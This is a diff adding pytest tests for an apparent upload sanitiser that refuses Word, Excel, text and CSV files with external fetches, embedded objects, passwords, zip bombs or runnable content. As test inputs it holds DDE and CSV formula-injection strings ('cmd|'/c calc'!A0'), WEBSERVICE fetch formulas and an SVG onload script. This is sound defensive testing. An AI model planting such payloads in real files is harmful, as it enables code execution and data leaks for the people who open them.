+    ids=[
+        "simple field",
+        "drawn picture of two addresses",
+        "field behind another element",
+        "element in a field",
+        "run passed over",
+        "mark passed over",
+        "run chosen",
+        "drawn picture",
+    ],
+)
+def test_code_of_which_a_reader_passes_over_a_part_is_refused(sent):
+    refused(sent, ".docx", "draws on something outside it")
+
+
+@pytest.mark.parametrize(
+    ("element", "match"),
+    [
+        ('<w:altChunk x:id="r0"/>', r"has another file inside it \(altChunk\)"),
+        ('<w:subDoc r:id="r0"/>', r"has another file inside it \(subDoc\)"),
+        ("<w:object/>", r"has another file inside it \(object\)"),
+        ('<w:control r:id="r0"/>', r"has another file inside it \(control\)"),
+        ('<a:blip r:link="r0"/>', "draws on something outside it"),
+        ('<v:imagedata x:href="r0"/>', "draws on something outside it"),
+    ],
+)
+def test_what_is_always_outside_is_refused_whatever_its_relation_is_called(element, match):
+    link = relations(("hyperlink", "https://example.org/seen.png", "External"))
+    refused(in_document(element, **{"word/_rels/document.xml.rels": link}), ".docx", match)
+
+
+def test_fields_that_fetch_nothing_stay():
+    """Page numbers, contents, reckoning, links that a person presses."""
+    runs = ["{", " PAGE ", "}", "{", "=", "{", "PAGE", "}", "+1", "}", "{", ' TOC \\o "1-3" \\h ', "}"]
+    runs += ["{", ' HYPERLINK "https://example.org/" ', "}", "{", ' HYPERLINK \\l "_Toc1" ', "}", "{", " DATE ", "}"]
+    assert clean(in_words(*runs), ".docx")
+    assert clean(in_document("<w:p><w:r><w:t>We LINK the DATABASE</w:t></w:r></w:p>"), ".docx")
+
+
+def in_a_cell(formula):
+    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+    row = f'<row r="1"><c r="A1"><f>{formula}</f><v>1</v></c></row>'
+    return xlsx(**{"xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><sheetData>{row}</sheetData></worksheet>'})
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "cmd|'/c calc'!A0",
+        '_xlfn.WEBSERVICE("https://example.org/"&amp;A1)',
+        '_xlfn.IMAGE("https://example.org/a.png")',
+        """'a"b'!A1&amp;_xlfn.WEBSERVICE("https://example.org/"&amp;A2)""",
+        """'a"b'!A1+cmd|'/c calc'!A0&amp;"\"""",
+        """'it''s "a'!A1+cmd|'/c calc'!A0&amp;"\"""",
+        """Cases[a"b]&amp;_xlfn.WEBSERVICE("https://example.org/")""",
+        """Cases[a'[]&amp;_xlfn.WEBSERVICE("https://example.org/")&amp;Cases[a'[]""",
+        "_xlfn.MAP(A1:A9,_xlfn._xleta.WEBSERVICE)",
+    ],
+)
+def test_workbook_whose_formulas_fetch_something_is_refused(formula):
+    refused(in_a_cell(formula), ".xlsx", "draws on something outside it")
+
+
+@pytest.mark.parametrize("formula", ["<x></x>_xlfn.WEBSERVICE(A1)", "_xlfn.WEB<x/>SERVICE(A1)"])
+def test_formula_with_an_unknown_element_in_it_is_read_without_it(formula):
+    refused(in_a_cell(formula), ".xlsx", "draws on something outside it")
+
+
+def test_formula_with_another_in_it_is_refused():
+    refused(in_a_cell("1<f>2</f>"), ".xlsx", "damaged or something else")
+
+
+def test_workbook_on_a_database_is_refused():
+    sent = xlsx(**{"xl/_rels/workbook.xml.rels": relations(("connections", "connections.xml"))})
+    refused(sent, ".xlsx", "draws on something outside it")
+
+
+def test_formulas_that_reckon_stay():
+    assert clean(in_a_cell('IF(A2="a|b",SUM(B1:B9),VLOOKUP(A1,One!A1:B2,2))'), ".xlsx")
+
+
+def test_document_with_a_password_is_refused_and_told_what_to_do():
+    container = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
+    refused(container + "EncryptedPackage".encode("utf-16-le"), ".docx", "has a password. Save it without one")
+    refused(container, ".xlsx", r"is in an old format. Save it anew as an Excel workbook \(.xlsx\)")
+
+
+def test_zip_made_to_fill_a_server_is_refused(monkeypatch):
+    bomb = docx(**{"word/more.xml": f"<a>{' ' * 1_000_000}</a>"})
+    assert len(bomb) < 10_000
+    assert clean(bomb, ".docx")
+
+    monkeypatch.setattr(office, "MOST_UNPACKED", 1_000_000)
+    refused(bomb, ".docx", "damaged or something else")
+
+
+# --- Texts ------------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("content", "match"),
+    [
+        ("Qacha’s Nek".encode("cp1252"), "isn't a text in UTF-8. Save it again"),
+        ("Maseru".encode("utf-16"), "isn't a text in UTF-8. Save it again"),
+        (b"a\x00b", "holds what is no text"),
+        (b"a\x1b[2Jb", "holds what is no text"),
+        (b"\n<svg onload='alert(1)'/>", "holds a page or a drawing with code in it"),
+        ("\ufeff<!doctype html><p>".encode(), "holds a page or a drawing with code in it"),
+        (rb"{\rtf1\ansi{\object\objdata 01}}", "holds a page or a drawing with code in it"),
+    ],
+)
+@pytest.mark.parametrize("extension", [".txt", ".csv"])
+def test_text_that_is_none_is_refused(content, match, extension):
+    refused(content, extension, match)
+
+
+@pytest.mark.parametrize(
+    "table",
+    [
+        "=cmd|'/c calc'!A0",
+        "a,=1+1",
+        'a;b\r\n1;=HYPERLINK(""https://example.org/""&A1)',
+        "a\tb\r\n1\t@SUM(A1)",
+        "\ufeff=1+1",
+        'a,"b\n",c\n1,"=WEBSERVICE(""https://example.org/"")",2',
+        'a,"=1+1"',
+        "a, =1+1",
+        "-2+3+cmd|'/c calc'!A0",
+        '+HYPERLINK ("https://example.org/"&A1)',
+        "a,\t-SUM(A1)",
+        "\"\r+'https://example.org/[a.xlsx]One'!A1\"",
+        "a,＝1+1",
+        "sep=|\na|=1+1",
+        "ID;PWXL\nC;Y1;X1;K0;EA1",
+    ],
+)
+def test_table_that_a_spreadsheet_would_run_is_refused_and_told_what_to_do(table):
+    refused(table.encode(), ".csv", r"would run as a formula.* Write a word or an apostrophe before it, or send an")
+    assert clean(table.encode(), ".txt").content == table.encode()
+
+
+def test_row_of_a_table_that_a_spreadsheet_would_run_is_named():
+    refused(b"district,cases\nMaseru,3\nLeribe,=1+1\nBerea,2\n", ".csv", "in the row that ends in line 3:")
+
+
+def test_table_of_numbers_telephones_and_words_stays_as_it_is():
+    rows = ["ID;change;telephone;day;of which", "1;-5;+266 2231-2345;-;-1,5 %", "2;-1.5E+03;+(266) 22 312 345;--;3"]
+    rows += ['3;"- 5";-12 500;a=b;"Trained:\n- police (12)\n- nurses!"', "4;'=1+1;a-b;a@example.org;Qacha’s Nek"]
+    table = "\r\n".join(rows).encode()
+    assert clean(table, ".csv").content == table
+
+
+# --- Apart ------------------------------------------------------------------------------------------------------------
+
+
+def test_what_a_file_does_to_the_cleaner_stays_there(monkeypatch):
+    with pytest.raises(Unclean, match="is a PDF by its content"):
+        clean_apart(PDF, ".docx", run=Sandbox(None))
+    monkeypatch.setattr(confined, "MOST_WAITED", 0.001)
+    with pytest.raises(Unclean, match="can't be opened here: it takes too long or too much room"):
+        clean_apart(PDF, ".pdf", run=Sandbox(None))
+
+
+def test_cleaner_that_dies_refuses_the_file(monkeypatch):
+    monkeypatch.setattr("sys.executable", "/bin/false")
+    with pytest.raises(Unclean, match="can't be opened here"):
+        clean_apart(PDF, ".pdf", run=Sandbox(None))
